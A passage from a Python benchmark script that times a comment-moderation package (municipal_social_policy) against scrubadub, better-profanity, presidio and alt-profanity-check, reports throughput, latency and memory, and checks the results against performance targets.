        "status": "failed",
        "error": f"exit {process.returncode}: " + " | ".join(tail),
        "process_seconds": elapsed,
    }


def cpu_model() -> str:
    try:
        with open("/proc/cpuinfo", encoding="utf-8") as cpuinfo:
            for line in cpuinfo:
                if line.startswith("model name"):
                    return line.split(":", 1)[1].strip()
    except OSError:
        pass
    return platform.processor() or platform.machine() or "unknown"


def git_revision() -> str:
    def git(*args: str) -> str:
        return subprocess.run(
            ["git", "-C", str(REPO), *args],
            capture_output=True,
            text=True,
            timeout=10,
            check=True,
        ).stdout.strip()

    try:
        head = git("rev-parse", "--short=12", "HEAD")
        dirty = git("status", "--porcelain", "--untracked-files=no")
    except (OSError, subprocess.SubprocessError):
        return "unknown"
    return f"{head}{' (uncommitted changes)' if dirty else ''}"


def machine_info() -> dict[str, Any]:
    import municipal_social_policy as msp

    try:
        version = str(msp.__version__)
    except Exception:  # not installed as a distribution
        version = "unknown"
    try:
        affinity = len(os.sched_getaffinity(0))
    except AttributeError:
        affinity = os.cpu_count() or 0
    return {
        "date": datetime.datetime.now(datetime.UTC).isoformat(timespec="seconds"),
        "cpu": cpu_model(),
        "cores": os.cpu_count(),
        "usable_cores": affinity,
        "python": platform.python_version(),
        "implementation": platform.python_implementation(),
        "platform": platform.platform(),
        "library_version": version,
        "git": git_revision(),
        "ordinance_digest": msp.load("kankakee").digest,
        "load_average_before": list(os.getloadavg()),
    }


@dataclass(frozen=True)
class Target:
    name: str
    value: float | None
    limit: float
    higher_is_better: bool
    unit: str

    @property
    def status(self) -> str:
        if self.value is None:
            return "n/a"
        met = self.value >= self.limit if self.higher_is_better else self.value < self.limit
        return "PASS" if met else "FAIL"

    def as_json(self) -> dict[str, Any]:
        return {
            "name": self.name,
            "value": self.value,
            "target": (">= " if self.higher_is_better else "< ") + f"{self.limit:g}",
            "unit": self.unit,
            "status": self.status,
        }


def targets(results: dict[str, dict[str, Any]]) -> list[Target]:
    ours = results.get(OURS)
    if not ours or ours.get("status") != "ok":
        return []

    def rate(name: str, corpus: str = "short") -> float | None:
        result = results.get(name)
        if not result or result.get("status") != "ok":
            return None
        figures = result[corpus]
        return float(figures["count"] / figures["seconds"])

    mine = rate(OURS)
    assert mine is not None
    short, long, big = ours["short"], ours["long"], ours["big"]
    scrub, better = rate("scrubadub"), rate("better-profanity")
    memory = ours.get("import_setup_rss_bytes")
    return [
        Target("throughput / scrubadub's, short", mine / scrub if scrub else None, 1.5, True, "x"),
        Target(
            "throughput / better-profanity's, short",
            mine / better if better else None,
            500,
            True,
            "x",
        ),
        Target("comments/s, short (35,000 = 1.5 x ~24,000)", mine, 35_000, True, "/s"),
        Target("p50, short", short["p50_us"], 30, False, "us"),
        Target("p99 / p50, short", short["p99_us"] / short["p50_us"], 10, False, "x"),
        Target("long corpus MB/s", long["bytes"] / 1e6 / long["seconds"], 5, True, "MB/s"),
        Target("1 MB comment (median)", big["median_ms"], 200, False, "ms"),
        Target("import + load + Evaluator", ours["import_ms"] + ours["setup_ms"], 200, False, "ms"),
        Target(
            "evaluator memory (RSS after Evaluator - before import)",
            memory / 1e6 if memory is not None else None,
            50,
            False,
            "MB",
        ),
    ]


def _fmt(value: float | None, spec: str, width: int) -> str:
    return f"{'-' if value is None else format(value, spec):>{width}}"


def _fmt_us(value: float | None) -> str:
    """Microseconds in 11 columns: one decimal below 1,000, none above."""
    return _fmt(value, ",.1f" if value is not None and value < 1000 else ",.0f", 11)


def _fmt_rate(rate: float) -> str:
    return _fmt(rate, ",.0f" if rate >= 100 else ",.2f", 12)


def print_report(
    corpora: Corpora, info: dict[str, Any], results: dict[str, dict[str, Any]]
) -> list[Target]:
    short_bytes = sum(len(t.encode("utf-8")) for t in corpora.short)
    long_bytes = sum(len(t.encode("utf-8")) for t in corpora.long)
    print(
        f"\nshort corpus: {len(corpora.short):,} comments, {short_bytes / 1e6:.2f} MB,"
        f" {short_bytes / len(corpora.short):.0f} bytes average;"
        f" long corpus: {len(corpora.long):,} x {LONG_CHARS:,} characters,"
        f" {long_bytes / 1e6:.2f} MB"
    )
    kinds = ", ".join(f"{k} {v / len(corpora.short):.1%}" for k, v in sorted(corpora.kinds.items()))
    print(f"mix: {kinds}; seed {corpora.seed}; sha256 {corpora.digest()}")
    print(f"civic text: {corpora.civic_source}")
    baseline = next(
        (r["baseline_rss_bytes"] for r in results.values() if "baseline_rss_bytes" in r), None
    )
    if baseline:
        print(
            f"each child holds the corpora before it imports its tool: {baseline / 1e6:.0f} MB"
            " peak RSS, not counted in the tool's own MB below"
        )
    ours = results.get(OURS, {})
    ours_ok = ours.get("status") == "ok"
    truncated = False
    for corpus in ("short", "long"):
        print(
            f"\n{corpus + ' corpus':<22}{'measured':>9}{'comments/s':>12}{'p50 us':>11}"
            f"{'p99 us':>11}{'p99/p50':>8}{'MB/s':>8}{'hits':>7}{'ours x':>10}"
        )
        for name, label in TOOLS.items():
            result = results.get(name)
            if result is None:
                continue
            if result.get("status") != "ok":
                print(f"{label:<22}skipped: {result.get('error', result.get('status'))}")
                continue
            figures = result[corpus]
            rate = figures["count"] / figures["seconds"]
            megabytes = figures["bytes"] / 1e6 / figures["seconds"]
            measured = f"{figures['count']:,}"
            if figures["count"] < figures["corpus_count"]:
                measured += "*"
                truncated = True
            if name in BATCH_TOOLS:
                p50 = p99 = f"{'batch':>11}"
                ratio_text = f"{'batch':>8}"
            else:
                p50 = _fmt_us(figures["p50_us"])
                p99 = _fmt_us(figures["p99_us"])
                ratio_text = f"{figures['p99_us'] / figures['p50_us']:8.1f}"
            ours_rate = None
            if ours_ok:
                mine = ours[corpus]
                ours_rate = mine["count"] / mine["seconds"]
            relative = ours_rate / rate if ours_rate else None
            print(
                f"{label:<22}{measured:>9}{_fmt_rate(rate)}{p50}{p99}{ratio_text}"
                f"{megabytes:8.2f}{figures['hits']:7,}{_fmt(relative, ',.2f', 10)}"
            )
    if truncated:
        print(
            "* the timed loop stopped after the --budget of"
            f" {next(iter(results.values())).get('budget_s', 0):g} s: figures from the first"
            " comments of the corpus (same texts, same order for every tool)"
        )
    print(
        f"\n{'per tool':<22}{'import ms':>10}{'setup ms':>10}{'1st call ms':>12}"
        f"{'warm-up':>9}{'peak RSS MB':>12}{'own MB':>8}{'process s':>10}"
    )
    for name, label in TOOLS.items():
        result = results.get(name)
        if result is None or result.get("status") != "ok":
            continue
        print(
            f"{label:<22}{result['import_ms']:10,.0f}{result['setup_ms']:10,.0f}"
            f"{result['first_call_ms']:12,.1f}{result['warmup_count']:9,}"
            f"{result['peak_rss_bytes'] / 1e6:12.1f}"
            f"{result['attributable_rss_bytes'] / 1e6:8.1f}{result['process_seconds']:10.1f}"
        )
    notes = []
    if ours_ok:
        big = ours["big"]
        runs = ", ".join(f"{ms:.0f}" for ms in big["runs_ms"])
        notes.append(
            f"msp: {big['chars']:,}-character comment: {runs} ms"
            f" ({big['bytes'] / 1e6 / (big['median_ms'] / 1e3):.2f} MB/s), decision"
            f" {big['decision']}, detector errors: {big['errors'] or 'none'}, peak RSS after it"
            f" {big['peak_rss_bytes'] / 1e6:.0f} MB"
        )
        short, long = ours["short"], ours["long"]
        per_kb = [f"{f['seconds'] * 1e6 / (f['bytes'] / 1e3):.1f}" for f in (short, long)] + [
            f"{big['median_ms'] * 1e3 / (big['bytes'] / 1e3):.1f}"
        ]
        notes.append(f"msp: us per KB, short / long / 1 MB: {' / '.join(per_kb)}")
        memory = ours.get("import_setup_rss_bytes")
        compile_memory = ours.get("compile_rss_bytes")
        if memory is not None:
            notes.append(
                f"msp: RSS growth import + load + Evaluator {memory / 1e6:.1f} MB"
                + (
                    f" (load + Evaluator alone {compile_memory / 1e6:.1f} MB)"
                    if compile_memory is not None
                    else ""
                )
            )
        notes.append(
            f"msp: verdicts with detector errors (timeouts) in the timed loops:"
            f" {ours['errors_in_timed_runs']}"
        )
    presidio = results.get("presidio-analyzer", {})
    if presidio.get("status") == "ok":
        notes.append(
            "presidio: recognisers " + ", ".join(presidio["recognizers"]) + " called directly"
            " with nlp_artifacts=None; model packages imported:"
            f" {presidio['models_loaded'] or 'none'}; spaCy library imported by the package:"
            f" {'yes' if presidio['spacy_library_imported'] else 'no'}"
        )
    scrub = results.get("scrubadub", {})
    if scrub.get("status") == "ok":
        notes.append("scrubadub: default Scrubber detectors " + ", ".join(scrub["detectors"]))
    if "alt-profanity-check" in results:
        notes.append("alt-profanity-check: one predict() per corpus; per comment = batch / count")
    print()
    for note in notes:
        print(note)
    checks = targets(results)
    if checks:
        print(f"\n{'our targets (issues 5 and 9)':<58}{'value':>12}  {'target':<15}status")
        for check in checks:
            sign = ">=" if check.higher_is_better else "<"
            target_text = f"{sign} {check.limit:,g} {check.unit}"
            print(
                f"{check.name:<58}{_fmt(check.value, ',.2f', 12)}  {target_text:<15}{check.status}"
            )
    return checks


def profile(corpora: Corpora, top: int) -> None:
    """cProfile of our evaluation over the short corpus, in this process.

    Prints the top functions by own time and by cumulative time, then own time summed by
    source file (which detector modules the time goes to).
    """
    import cProfile
    import pstats

    import municipal_social_policy as msp

    evaluator = msp.Evaluator(msp.load("kankakee"))
    for text in corpora.short[:WARMUP_COUNT]:
        evaluator.evaluate(text)
    profiler = cProfile.Profile()
    started = time.perf_counter()
    profiler.enable()
    for text in corpora.short:
        evaluator.evaluate(text)
    profiler.disable()
    elapsed = time.perf_counter() - started
    print(
        f"cProfile of {len(corpora.short):,} evaluations (short corpus): {elapsed:.1f} s"
        " with the profiler on"
    )
    stats = pstats.Stats(profiler)
    stats.sort_stats("tottime").print_stats(top)
    stats.sort_stats("cumulative").print_stats(top)
    by_file: dict[str, float] = {}
    raw: dict[tuple[str, int, str], tuple[Any, ...]] = stats.stats  # type: ignore[attr-defined]
    for (filename, _, function), (_, _, own, _, _) in raw.items():
        if filename == "~":  # built-ins: name the method instead
            key = function
        elif "municipal_social_policy" in filename:
            key = filename.split("municipal_social_policy", 1)[1].lstrip("/\\")
        else:
            key = Path(filename).name
        by_file[key] = by_file.get(key, 0.0) + own
    total = sum(by_file.values()) or 1.0
    print(f"own time by file (built-ins by name), top {top}:")
    for key, own in sorted(by_file.items(), key=lambda item: -item[1])[:top]:
        print(f"{own:9.2f} s {own / total:6.1%}  {key}")


def parse_only(values: list[str] | None) -> list[str]:
    if not values:
        return list(TOOLS)
    names = [name.strip() for value in values for name in value.split(",") if name.strip()]
    unknown = [name for name in names if name not in TOOLS]
    if unknown:
        raise SystemExit(f"--only: unknown {', '.join(unknown)}; choose from {', '.join(TOOLS)}")
    return [name for name in TOOLS if name in names]


def main() -> int:
    parser = argparse.ArgumentParser(
        description=(__doc__ or "").split("\n\n")[0],
        formatter_class=argparse.RawDescriptionHelpFormatter,
    )
    parser.add_argument("--quick", action="store_true", help="smaller corpora, for a smoke run")
    parser.add_argument(
        "--only",
        action="append",
        metavar="NAME",
        help=f"measure only these tools (repeat or comma-separate): {', '.join(TOOLS)}",
    )
    parser.add_argument("--json", type=Path, metavar="FILE", help="write every figure as JSON")
    parser.add_argument("--seed", type=int, default=SEED, help=f"corpus seed (default {SEED})")
    parser.add_argument(
        "--civic",
        choices=("auto", "polis", "generator"),
        default="auto",
        help="civic text: Polis data when present (auto), required (polis) or generated",
    )
    parser.add_argument(
        "--data", type=Path, default=DEFAULT_DATA, help=f"data folder (default {DEFAULT_DATA})"
    )
    parser.add_argument(
        "--profile",
        type=int,
        metavar="N",
        help="instead of measuring, cProfile our evaluation of the short corpus; top N",
    )
    parser.add_argument(
        "--budget",
        type=float,
        metavar="SECONDS",
        help=(
            f"stop a tool's timed loop over a corpus after this long (default {BUDGET_SECONDS:g},"
            f" --quick {QUICK_BUDGET_SECONDS:g}; 0 = measure every comment)"
        ),
    )
    parser.add_argument("--strict", action="store_true", help="exit 1 when a target fails")
    parser.add_argument(
        "--baseline",
        type=Path,
        metavar="SRC",
        help="also measure the package imported from this source folder (msp-baseline)",
    )
    parser.add_argument("--child", help=argparse.SUPPRESS)
    parser.add_argument("--corpus-file", type=Path, help=argparse.SUPPRESS)
    parser.add_argument("--warmup", type=int, default=WARMUP_COUNT, help=argparse.SUPPRESS)
    parser.add_argument("--big-runs", type=int, default=BIG_RUNS, help=argparse.SUPPRESS)
    arguments = parser.parse_args()

    if arguments.child:
        result = child(
            arguments.child,
            arguments.corpus_file,
            arguments.warmup,
            arguments.big_runs,
            arguments.budget,
        )
        print(RESULT_MARK + json.dumps(result))
        return 0

    started = time.perf_counter()
    corpora = build_corpora(arguments)
    if arguments.profile:
        profile(corpora, arguments.profile)
        return 0
    names = parse_only(arguments.only)
    if arguments.baseline is None:
        names = [name for name in names if name != BASELINE]
    elif BASELINE not in names:
        names.insert(1, BASELINE)
    info = machine_info()
    print(
        f"throughput benchmark {info['date']}: {info['cpu']}, {info['cores']} cores"
        f" ({info['usable_cores']} usable), Python {info['python']}"
    )
    print(
        f"municipal_social_policy {info['library_version']} at {info['git']},"
        f" Kankakee ordinance digest {str(info['ordinance_digest'])[:23]}"
    )
    print(
        "load average before: "
        + " ".join(f"{v:.2f}" for v in info["load_average_before"])
        + ("  (--quick: smaller corpora)" if arguments.quick else "")
    )
    warmup = QUICK_WARMUP_COUNT if arguments.quick else WARMUP_COUNT
    big_runs = QUICK_BIG_RUNS if arguments.quick else BIG_RUNS
    budget = arguments.budget
    if budget is None:
        budget = QUICK_BUDGET_SECONDS if arguments.quick else BUDGET_SECONDS
    results: dict[str, dict[str, Any]] = {}
    with tempfile.TemporaryDirectory(prefix="msp-throughput-") as directory:
        corpus_path = Path(directory) / "corpora.txt"
        corpora.write(corpus_path)
        for name in names:
            print(f"measuring {TOOLS[name]} ...", file=sys.stderr, flush=True)
            results[name] = run_child(
                name, corpus_path, warmup, big_runs, budget, arguments.baseline
            )
    info["load_average_after"] = list(os.getloadavg())
    checks = print_report(corpora, info, results)
    elapsed = time.perf_counter() - started
    print(
        "\nload average after: "
        + " ".join(f"{v:.2f}" for v in info["load_average_after"])
        + f"; the run took {elapsed:.0f} s"
    )
    if arguments.json:
        document = {
            "machine": info,
            "quick": arguments.quick,
            "corpus": {
                "seed": corpora.seed,
                "sha256_16": corpora.digest(),
                "civic_source": corpora.civic_source,
                "short_count": len(corpora.short),
                "short_bytes": sum(len(t.encode("utf-8")) for t in corpora.short),
                "long_count": len(corpora.long),
                "long_chars": LONG_CHARS,
                "big_chars": BIG_CHARS,
                "mix": corpora.kinds,
                "warmup_count": warmup,
            },
            "tools": results,
            "targets": [check.as_json() for check in checks],
            "elapsed_seconds": elapsed,
        }
        arguments.json.write_text(json.dumps(document, indent=2) + "\n", encoding="utf-8")
        print(f"figures written to {arguments.json}")
    failed = [check for check in checks if check.status == "FAIL"]
    return 1 if arguments.strict and failed else 0


if __name__ == "__main__":
    sys.exit(main())
